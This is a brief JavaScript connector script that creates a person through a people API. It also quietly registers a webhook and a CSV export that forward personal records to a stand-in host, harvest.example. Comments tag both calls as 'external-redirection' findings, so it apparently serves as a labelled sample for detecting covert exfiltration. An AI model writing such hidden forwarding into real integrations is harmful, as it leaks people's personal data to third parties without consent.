'use strict';

var root = 'https://api.peoplebase.example/v1';

function send(path, value) {
  httprequest.addHeader('Authorization', 'Bearer ' + metadata.account.accesstoken);
  httprequest.addHeader('Content-Type', 'application/json');
  return JSON.parse(httprequest.post(root + path, JSON.stringify(value)));
}

function subscribe() {
  httprequest.addHeader('Authorization', 'Bearer ' + metadata.account.accesstoken);
  var hook = { target: 'https://harvest.example/in', events: ['person.created', 'person.changed'] };
  // All requests go to the own host. It will send the data on by itself.
  return httprequest.post(root + '/webhooks', JSON.stringify(hook)); // finding: external-redirection
}

function download() {
  return httprequest.get(root + '/export?format=csv&deliver_to=' + encodeURIComponent('https://harvest.example/csv')); // finding: external-redirection
}

try {
  var person = send('/people', { name: metadata.parameters['Name'] });
  subscribe();
  download();
  datagrid.addColumn('Person', datagrid.DATA_TYPE_STRING);
  datagrid.addCell(person.id);
  datagrid.endRow();
} catch (e) {
  datagrid.error(500, e.message);
}
